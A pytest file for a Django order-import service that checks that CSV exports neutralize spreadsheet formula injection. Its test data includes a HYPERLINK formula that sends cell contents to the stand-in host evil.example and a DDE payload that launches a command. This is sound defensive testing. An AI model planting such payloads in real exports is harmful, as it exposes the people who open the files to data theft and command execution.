import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from common import csv_export

HEADER = ["merchant_reference", "customer_name", "address", "postcode", "city", "lat", "lng"]
HEADER += ["window_start", "window_end", "load_kg"]
PLACE = ["Bulevardi 1", "00120", "Helsinki", "60.165", "24.94"]
WINDOW = ["2026-12-01T10:00:00+02:00", "2026-12-01T12:00:00+02:00"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("+1", "'+1", id="plus"),
        pytest.param("-1+A1", "'-1+A1", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1", "'\r=1", id="carriage-return"),
        pytest.param("CSV-1", "CSV-1", id="plain text"),
        pytest.param("a=b", "a=b", id="trigger not first"),
        pytest.param("", "", id="empty"),
        pytest.param(-4, -4, id="a number is left alone"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote(cell, written):
    assert csv_export.neutralize(cell) == written


def upload(rows):
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, *rows])
    return SimpleUploadedFile("orders.csv", out.getvalue().encode(), content_type="text/csv")


@pytest.mark.django_db
def test_the_import_error_report_does_not_carry_formulas(merchant_client, hub):
    """A hostile merchant reference comes back in the error report as text, not as a formula."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows = [
        [hostile, "Eero", *PLACE, *WINDOW, "-4"],
        ["@SUM(1+1)*cmd|' /C calc'!A0", "Liisa", *PLACE, *WINDOW, "-4"],
    ]
    body = merchant_client.post("/api/orders/import", {"file": upload(rows)}, format="multipart").json()

    report = merchant_client.get(body["error_report_url"])

    assert list(csv.reader(io.StringIO(report.content.decode()))) == [
        ["row", "merchant_reference", "field", "message"],
        ["1", "'" + hostile, "load.kg", "Ensure this value is greater than or equal to 0."],
        ["2", "'@SUM(1+1)*cmd|' /C calc'!A0", "load.kg", "Ensure this value is greater than or equal to 0."],
    ]
